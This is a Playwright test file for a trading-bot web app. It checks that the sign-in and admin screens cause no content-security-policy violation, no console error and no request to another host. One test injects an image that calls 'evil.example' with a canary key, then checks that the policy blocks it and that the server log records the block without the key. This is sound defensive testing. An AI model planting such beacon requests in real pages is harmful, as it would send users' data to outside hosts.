import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';
import { runSize } from '../support/run-size.ts';
import { account, choose, enterPassword } from './people.ts';

/** Everything a page does that it should not: what its content policy stopped, errors on the console, other hosts. */
async function watch(page: Page, baseURL: string): Promise<string[]> {
  const faults: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => faults.push(`policy: ${text}`));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
      noteViolation(`${effectiveDirective} ${blockedURI} ${sourceFile}`);
    });
  });
  page.on('console', (message) => {
    // Who is not signed in gets a 401; the browser itself writes that to the console.
    const isAnswer401 = message.text().includes('status of 401') && message.location().url.includes('/api/auth/');
    if (message.type() === 'error' && !isAnswer401) faults.push(`console: ${message.text()} ${message.location().url}`);
  });
  page.on('pageerror', (error) => faults.push(`error: ${error.message}`));
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.origin !== baseURL && url.protocol !== 'data:' && url.protocol !== 'blob:') faults.push(`other host: ${url.href}`);
  });
  return faults;
}

const tab = (page: Page, name: string) => page.getByRole('tab', { name }).first();
const close = (page: Page) => page.keyboard.press('Escape');

test('the screens of the sign-in keep to the content policy, log no error and contact no other host', async ({ page, baseURL }) => {
  const faults = await watch(page, baseURL ?? '');
  for (const path of ['/login', '/register', '/verify-email', '/2fa', '/reset-password']) {
    await page.goto(path);
    await page.getByRole('button').last().click();
    await page.waitForTimeout(300);
  }
  await page.goto('/login');
  await page.getByRole('button', { name: /forgot/iu }).click();
  await page.waitForTimeout(300);
  expect(faults).toEqual([]);
});

for (const colorScheme of runSize(1).isNight ? (['dark', 'light'] as const) : (['dark'] as const)) {
  test(`every tab and dialog of an admin keeps to it too, ${colorScheme}`, async ({ page, baseURL }) => {
    await page.emulateMedia({ colorScheme });
    const faults = await watch(page, baseURL ?? '');
    await enterPassword(page, 'admin');

    await test.step('Status', async () => {
      const chart = page.getByRole('figure').first();
      await expect(chart.locator('canvas').first()).toBeVisible();
      await chart.hover({ position: { x: 300, y: 120 } });
      await page.mouse.wheel(0, -200);
      for (const name of ['PnL', 'Orders']) await page.getByRole('switch', { name }).click({ force: true });
      for (const name of ['PnL', 'Orders']) await page.getByRole('switch', { name }).click({ force: true });
      for (const box of await page.getByRole('combobox').all()) {
        if (!(await box.isVisible()) || !(await box.isEnabled())) continue;
        await box.click();
        await page.waitForTimeout(150);
        await close(page);
      }
      await page.getByRole('table', { name: 'Order Log' }).getByRole('row').nth(1).click();
      await page.waitForTimeout(500);
    });

    await test.step('Account', async () => {
      await page.getByTitle('Your Account Settings').click();
      const dialog = page.getByRole('dialog');
      await expect(dialog).toBeVisible();
      await page.waitForTimeout(500);
      await close(page);
    });

    await test.step('Strategy, Reports, Fund, Paper Trades', async () => {
      for (const name of ['Strategy', 'Reports', 'Fund', 'Paper Trades']) {
        await tab(page, name).click();
        await page.waitForTimeout(300);
      }
    });

    await test.step('Rules, whose worker needs a trusted address', async () => {
      await tab(page, 'Strategy').click();
      await tab(page, 'Rules').click();
      await page.getByRole('button', { name: 'Start from this: EMA cross' }).click();
      await expect(page.getByRole('table', { name: 'Figures' }).getByText('Net PNL')).toBeVisible();
      await page.getByRole('group', { name: /^1: / }).getByRole('button').first().click();
      await page.waitForTimeout(300);
    });

    await test.step('Bots', async () => {
      await tab(page, 'Bots').click();
      await expect(page.getByRole('article').first()).toBeVisible();
      await page
        .getByRole('button', { name: /^(Pause|Activate)$/u })
        .first()
        .click();
      await expect(page.getByRole('dialog')).toBeVisible();
      await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
      for (const menu of (await page.locator('[aria-haspopup="menu"]').all()).slice(0, 1)) {
        await menu.click();
        await page.waitForTimeout(200);
        await close(page);
      }
      await page.getByPlaceholder('Search by name or nickname').fill('no such bot');
      await expect(page.getByText('No bots found')).toBeVisible();
    });

    await test.step('Backtest', async () => {
      await tab(page, 'Backtest').click();
      await expect(page.getByRole('combobox').first()).toBeVisible();
      await page.getByRole('combobox').first().click();
      await page.waitForTimeout(200);
      await close(page);
      const run = page.getByRole('button', { name: /Run Backtest/u });
      if (await run.isEnabled()) await run.click();
      await page.waitForTimeout(3_000);
    });

    await test.step('Settings', async () => {
      await tab(page, 'Settings').click();
      await expect(page.getByText(/^\d+ of \d+ users$/u)).toBeVisible();
      await page
        .getByRole('listitem', { name: account('trader').email, exact: true })
        .getByRole('button')
        .first()
        .click();
      await expect(page.getByRole('heading', { name: 'Trading Bots' })).toBeVisible();
      await page.getByRole('button', { name: 'Add Key' }).first().click();
      await expect(page.getByRole('dialog', { name: 'Add API Key' })).toBeVisible();
      await close(page);
      await page.getByRole('link', { name: 'Mail', exact: true }).click();
      await page.getByRole('button', { name: 'Send Test Mail' }).click();
      await expect(page.getByText(/^(The test mail|Too many)/u).first()).toBeVisible();
      await choose(page, 'State', 'Sent');
      await page.getByRole('link', { name: 'Audit Log' }).click();
      await page.locator('.audit-toggle').first().click();
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: 'Export CSV' }).click();
      await download;
    });

    await test.step('Logout', async () => {
      await page.getByRole('switch', { name: 'Dark' }).click({ force: true });
      await page.getByRole('button', { name: 'Logout' }).click();
      await expect(page.getByRole('button', { name: 'Sign In', exact: true })).toBeVisible();
    });
    expect(faults).toEqual([]);
  });
}

test('what the policy stops is seen here and reported to the server', async ({ page, baseURL }) => {
  const faults = await watch(page, baseURL ?? '');
  await page.goto('/login');
  await page.evaluate(() => {
    const picture = document.createElement('img');
    picture.src = 'https://evil.example/pixel.png?key=canary';
    document.body.append(picture);
  });
  await expect.poll(() => faults.filter((fault) => fault.startsWith('policy: img-src')).length).toBe(1);
  const log = () => readFileSync(join(process.env['E2E_HOME'] ?? '', 'logs', 'web.log'), 'utf8');
  await expect.poll(log).toContain('"blocked":"https://evil.example/pixel.png"');
  expect(log()).not.toContain('key=canary');
});
